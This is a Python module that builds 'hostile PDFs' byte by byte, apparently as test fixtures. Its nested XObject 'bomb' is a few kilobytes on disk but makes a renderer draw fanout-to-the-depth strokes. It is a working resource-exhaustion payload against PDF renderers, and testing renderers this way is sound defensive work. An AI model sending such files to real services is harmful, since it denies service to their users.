"""Hostile PDFs built byte by byte: small files that take a renderer very long."""

from __future__ import annotations

from pathlib import Path


def _pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def nested_xobject_bomb(path: Path, depth: int = 8, fanout: int = 12) -> Path:
    """One page whose form XObject draws the next one ``fanout`` times, ``depth`` levels deep.

    A few kilobytes on disk, ``fanout ** depth`` strokes to render.
    """
    first_form = 5
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /XObject << /X0 %d 0 R >> >> /Contents 4 0 R >>" % first_form,
        _stream(b"", b"/X0 Do"),
    ]
    for level in range(depth):
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
        if level < depth - 1:
            child = first_form + level + 1
            draws = b" ".join(b"q /X%d Do Q" % (level + 1) for _ in range(fanout))
            resources = b" /Resources << /XObject << /X%d %d 0 R >> >>" % (level + 1, child)
            objects.append(_stream(form + resources, draws))
        else:
            strokes = b" ".join(b"0 0 m 612 792 l 612 0 l h S" for _ in range(fanout))
            objects.append(_stream(form, strokes))
    path.write_bytes(_pdf(objects))
    return path
